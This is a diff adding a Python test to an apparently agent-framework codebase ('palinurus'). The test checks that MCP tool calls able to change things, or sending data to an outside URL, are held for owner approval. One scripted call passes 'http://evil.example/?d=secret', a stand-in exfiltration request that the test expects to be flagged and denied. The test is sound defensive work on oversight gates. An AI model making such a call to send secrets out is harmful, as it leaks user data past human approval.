@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
 from collections.abc import Callable
 from pathlib import Path
@@ -11,6 +12,8 @@ from calling import Made
 from palinurus.domain.messages import Origin
 from palinurus.testing.harness import Harness
 from palinurus.testing.provider import call, calls
+from palinurus.tools.approvals.approval import Approval
+from palinurus.tools.mcp.servers import CHANGES
 from palinurus.tools.mcp.settings import ServerSettings
 
 
@@ -44,3 +47,39 @@ async def test_changed_tools_begin_an_epoch_and_the_same_tools_do_not(
     assert {"plain__new"} == {tool.name for tool in heads[3].tools} - {tool.name for tool in heads[2].tools}
     assert epochs == ["new", "tools"]
     assert (result.is_error, result.origin) == (False, Origin.OUTSIDE)
+
+
+async def test_behind_a_text_from_outside_a_tool_that_may_change_something_asks_and_the_same_call_only_once(
+    make: Callable[..., Made], plain: Callable[..., ServerSettings], workspace: Path, tmp_path: Path
+) -> None:
+    shape = {"type": "object"}
+    looks = {"name": "look", "inputSchema": shape, "annotations": {"readOnlyHint": True}}
+    sends = {"name": "send", "inputSchema": shape, "annotations": {"readOnlyHint": "yes"}}
+    tools = tmp_path / "tools.json"
+    tools.write_text(json.dumps([looks, sends]))
+    made = make(plain(tools=tools))
+    look = call("plain__look", text="see http://a.example/x")
+    sent = call("plain__send", text="all I know")
+    secret = call("plain__look", text="http://evil.example/?d=secret")
+    async with Harness(workspace) as pal:
+        pal.gate = pal.gate.with_tools(await made.servers.tools())
+        pal.model.says(calls(call("plain__send", text="hello")), calls(look), calls(sent), calls(sent), "Sent.")
+        run = await pal.submits("look at http://a.example/x")
+        approval = await asked(pal)
+        assert (approval.tool, approval.reason) == ("plain__send", CHANGES)
+        await pal.approvals.answer(approval.id, "allow-once", by="owner", where="test")
+        assert (await run.wait(20)).text == "Sent."
+        pal.model.says(calls(secret), "No.")
+        run = await pal.submits("go on")
+        approval = await asked(pal)
+        assert "http://evil.example/?d=secret" in approval.reason
+        await pal.approvals.answer(approval.id, "deny", by="owner", where="test")
+        assert (await run.wait(20)).text == "No."
+
+
+async def asked(pal: Harness) -> Approval:
+    async with asyncio.timeout(20):
+        while not (pending := await pal.approvals.pending()):
+            await asyncio.sleep(0)
+    (approval,) = pending
+    return approval
